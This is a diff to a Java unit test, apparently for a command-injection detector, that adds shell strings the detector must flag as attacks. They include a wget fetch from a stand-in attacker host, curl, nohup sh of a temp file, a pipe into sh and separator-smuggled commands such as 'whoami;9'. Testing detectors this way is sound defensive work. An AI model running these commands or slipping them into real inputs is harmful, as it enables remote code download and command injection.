@@ -35,7 +35,12 @@ class CommandsTest {
                 "$((4+5))",
                 "a|id|",
                 "ls -la",
-                "wget http://evil.example/k"
+                "wget http://evil.example/k",
+                "time curl k.example",
+                "nohup sh /tmp/k",
+                "k|rev|sh",
+                "whoami;9",
+                "while true;do k;done"
             })
     void commandsBehindASeparatorOrAlone(String text) {
         assertThat(commands.isAttack(Texts.of(text))).isTrue();
